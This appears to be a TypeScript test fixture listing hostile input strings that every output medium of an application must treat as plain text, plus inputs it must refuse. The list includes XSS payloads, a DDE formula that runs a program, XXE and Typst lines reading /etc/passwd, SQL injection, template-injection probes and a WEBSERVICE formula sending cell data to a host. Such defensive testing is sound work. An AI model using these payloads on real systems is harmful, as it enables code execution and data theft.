/** A text that somebody types where any text may stand. Each medium has to show it and nothing else. */
export interface HostileText {
  name: string;
  text: string;
  /** Takes up to three seconds of a processor in all media together. */
  isSlow?: true;
}

const combining = `e${"\u0301".repeat(200)}`;

/** Texts that are stored as they are: no medium may take them for anything but text. */
export const hostileTexts: readonly HostileText[] = [
  { name: "a script", text: "<script>alert(1)</script>" },
  { name: "a picture that runs", text: '"><img src=x onerror=alert(1)>' },
  { name: "the end of a script, and another", text: "</script><script>alert(1)</script>" },
  { name: "the end of a title, and a drawing that runs", text: "</title><svg onload=alert(1)>" },
  { name: "the end of a style", text: "</style><style>*{display:none}" },
  { name: "an attribute", text: "' onmouseover='alert(1)' x='" },
  { name: "an address that runs", text: "javascript:alert(1)" },
  { name: "entities of HTML", text: "&lt;b&gt;&#x3c;i&#x3e;&amp;amp;&nbsp" },
  { name: "a comment, and the end of CDATA", text: "<!-- --> ]]> <![CDATA[x]]>" },
  { name: "markup of Word", text: "</w:t></w:r><w:r><w:instrText>DDEAUTO cmd</w:instrText></w:r>" },
  { name: "markup of Excel", text: "</t></is></c><c><f>1+1</f></c>" },
  { name: "an entity of XML", text: '<!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]>&e;' },
  { name: "a formula that runs a program", text: "=cmd|'/c calc'!A0" },
  { name: "a formula with plus", text: "+1+1" },
  { name: "a formula with minus", text: "-1+1" },
  { name: "a formula with @", text: "@SUM(1)" },
  { name: "a formula behind a tab", text: "\t=1+1" },
  { name: "a formula behind a line end", text: "\r=1+1" },
  { name: "a formula with full-width signs", text: "＝1＋1" },
  { name: "a formula that asks the network", text: '=WEBSERVICE("http://example.org/"&A1)' },
  { name: "an import of Typst", text: '#import "/etc/passwd": * #read("/etc/passwd")' },
  { name: "markup of Typst", text: "$ e^x $ *b* _i_ `r` <label> @ref #set page(width: 1pt) \\ // /*" },
  { name: "an endless loop of Typst", text: "#while true {}" },
  { name: "templates", text: "${7*7} {{7*7}} <%= 7*7 %> #{7*7} {{constructor.constructor('x')()}}" },
  { name: "patterns of printf and of addresses", text: "%s%n%x %00%0d%0aSet-Cookie:x %2e%2e%2f" },
  { name: "patterns of replacement", text: "$& $` $' $1 $<a> \\1" },
  { name: "SQL", text: "'; DROP TABLE budget_line; --" },
  { name: "signs without width", text: "部\u200b分\u200c\u200d\u2060\ufeff" },
  { name: "control characters and colours of terminals", text: "a\u0001\u0008\u000b\u001b[31m\u007fb" },
  { name: "line ends of every system", text: "a\r\nb\rc\u2028d\u2029e\u0085f" },
  { name: "signs that are none", text: "a\ufffe\uffffb" },
  { name: "signs for private use", text: "a\ue000\uf8ffb" },
  { name: "a family as one picture", text: "👩‍👩‍👧‍👦🏳️‍🌈" },
  { name: "two hundred accents on a letter", text: combining },
  { name: "letters that run from the right", text: "مرحبا שלום" },
  { name: "names of every object", text: "__proto__ constructor toString" },
  { name: "2,000 letters without a break", text: "a".repeat(2_000), isSlow: true },
  { name: "quotes and backslashes", text: "\"'`\\\\\"\"''" },
  { name: "paths of other machines", text: "\\\\example.org\\share file:///etc/passwd" },
  { name: "a row of a table in Markdown", text: "| a | [x](javascript:alert(1)) |\n|---|" },
];

/** Texts that no action takes: each is refused in words. */
export const refusedTexts: readonly (HostileText & { says: RegExp })[] = [
  { name: "NUL", text: "职责\0", says: /NUL/ },
  { name: "the first half of a character", text: "职\ud83d责", says: /不完整的字符/ },
  { name: "the second half of a character", text: "\ude00职责", says: /不完整的字符/ },
  ...["\u202a", "\u202b", "\u202d", "\u202e", "\u2066", "\u2067", "\u2068"].map((sign) => ({
    name: `a sign that turns the direction (U+${sign.codePointAt(0)!.toString(16).toUpperCase()})`,
    text: `共${sign}4321元`,
    says: /文字方向/,
  })),
];
